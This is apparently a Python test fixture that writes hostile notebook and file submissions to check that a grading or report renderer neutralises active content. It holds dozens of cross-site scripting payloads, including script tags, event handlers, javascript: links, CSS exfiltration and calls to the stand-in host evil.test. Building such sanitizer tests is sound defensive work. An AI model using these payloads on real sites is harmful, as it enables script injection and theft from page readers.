"""Submissions that try to run, load or send something in the browser of who reads their page."""

import json
from pathlib import Path

# Each would be seen: as a dialog, as a request, or as window.ran.
RUN = "window.ran=1;alert(1);fetch('http://evil.test/run')"
PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
HTML = {
    "script": f"<script>{RUN}</script>",
    "script_in_pieces": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script_uppercase": f"<SCRIPT SRC=http://evil.test/x.js></SCRIPT><ScRiPt>{RUN}</sCrIpT>",
    "onerror": f'<img src=x onerror="{RUN}"><img/src="http://evil.test/a.png"/onload={RUN}>',
    "svg_onload": f'<svg onload="{RUN}"><script>{RUN}</script><a xlink:href="javascript:{RUN}">',
    "svg_in_math": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "template": f"<template><img src=x onerror={RUN}></template>",
    "iframe_data": f"<iframe src='data:text/html,<script>{RUN}</script>'></iframe>",
    "iframe_srcdoc": f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    "object_embed": "<object data='http://evil.test/o'></object><embed src='http://evil.test/e'>",
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=http://evil.test/meta">',
    "base": '<base href="http://evil.test/"><img src="relative.png">',
    "link_style": '<link rel="stylesheet" href="http://evil.test/l.css">',
    "style_import": "<style>@import 'http://evil.test/i.css'; body{display:none}</style>",
    "css_exfiltration": "<style>body{background:url(http://evil.test/css)}</style>"
    "<p style=\"background:url('http://evil.test/inline')\">",
    "javascript_link": f'<a href="javascript:{RUN}">a</a><a href="java&#10;script:{RUN}">b</a>'
    f'<a href="data:text/html,<script>{RUN}</script>">c</a><a href="vbscript:x">d</a>',
    "form": f'<form action="http://evil.test/f"><input autofocus onfocus="{RUN}"><button>go</form>',
    "clobbering": '<p id="c1-l1" name="body" class="marked">x</p><img name="currentScript">',
    "autoplay": f'<video autoplay src="http://evil.test/v" onerror="{RUN}"></video>'
    f'<audio src=x onerror="{RUN}"></audio><details open ontoggle="{RUN}">x</details>',
    "remote_image": '<img src="http://evil.test/i.png" srcset="http://evil.test/s.png 2x">',
    "svg_image": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>\">",
    "closing_tags": f"</div></section></main></body></html><script>{RUN}</script>]]>-->",
    "comment": f"<!--><script>{RUN}</script--><!--[if IE]><script>{RUN}</script><![endif]-->",
    "textarea": f"<textarea></textarea><title></title><img src=x onerror={RUN}>",
    "overlay": "<div style='position:fixed;inset:0;z-index:9'>100 points</div>",
}
MARKDOWN = {
    "md_link": f"[a](javascript:{RUN}) ![b](http://evil.test/md.png) <javascript:{RUN}>",
    "md_reference": f"[a][1]\n\n[1]: javascript:{RUN}\n",
    "md_fence": f"```html\"><script>{RUN}</script>\n<script>{RUN}</script>\n```\n",
    "md_math": f"$$\\href{{javascript:{RUN}}}{{x}} <script>{RUN}</script>$$ $<img src=x onerror={RUN}>$",
    "md_heading": f"# <script>{RUN}</script> {{#c1-l1}}\n\n# <img src=x onerror={RUN}>\n",
}
BUNDLES = {
    "text/html": f"<script>{RUN}</script><img src=http://evil.test/out.png>",
    "text/plain": f"</pre><script>{RUN}</script>",
    "text/markdown": f"<script>{RUN}</script>",
    "text/latex": f"\\href{{javascript:{RUN}}}{{x}}",
    "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    "image/png": f'x" onerror="{RUN}',
    "image/jpeg": f'data:text/html,<script>{RUN}</script>" onerror="{RUN}',
    "application/javascript": RUN,
    "application/pdf": "JVBERi0=",
    "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
}
MODULE = f'''# </script><script>{RUN}</script>
"""]]></code></pre><img src=x onerror="{RUN}">"""
raise ValueError("</code><script>{RUN}</script><img src=http://evil.test/note.png>")
'''
NAME = "<img src=x onerror=alert(1)>&quot;.py"


def write(folder: Path) -> list[str]:
    """Write the submissions; return the students that they are of."""
    for name, text in {**HTML, **MARKDOWN}.items():
        _write(folder / f"{name}.ipynb", [_markdown(text), _code("x = 1")])
    attachments = {"a.png": {"image/png": f'x" onerror="{RUN}'}, "b": {"text/html": HTML["script"]}}
    attached = {**_markdown("![a](attachment:a.png) ![b](attachment:b)"), "attachments": attachments}
    _write(folder / "attachments.ipynb", [attached, _code("x = 1")])
    outputs = [
        {"output_type": "display_data", "data": {kind: data}, "metadata": {}}
        for kind, data in BUNDLES.items()
    ]
    outputs.append({"output_type": "stream", "name": "stdout", "text": BUNDLES["text/plain"]})
    outputs.append({"output_type": "error", "ename": "E", "evalue": "", "traceback": [HTML["script"]]})
    _write(folder / "outputs.ipynb", [_code("x = 1", outputs)])
    metadata = {"title": HTML["script"], "kernelspec": {"name": HTML["onerror"]}}
    _write(folder / "metadata.ipynb", [_code("x = 1")], metadata)
    _write(folder / "good_image.ipynb", [_code("x", [_picture()]), _markdown(HTML["svg_image"])])
    (folder / "module.py").write_text(MODULE)
    (folder / NAME).write_text(MODULE)
    return sorted(path.stem for path in folder.iterdir())


def _picture() -> dict:
    return {"output_type": "display_data", "data": {"image/png": PNG}, "metadata": {}}


def _markdown(text: str) -> dict:
    return {"cell_type": "markdown", "metadata": {}, "source": text}


def _code(source: str, outputs: list[dict] | None = None) -> dict:
    cell = {"cell_type": "code", "metadata": {}, "execution_count": None, "source": source}
    return {**cell, "outputs": outputs or []}


def _write(path: Path, cells: list[dict], metadata: dict | None = None) -> None:
    notebook = {"cells": cells, "metadata": metadata or {}, "nbformat": 4, "nbformat_minor": 4}
    path.write_text(json.dumps(notebook))
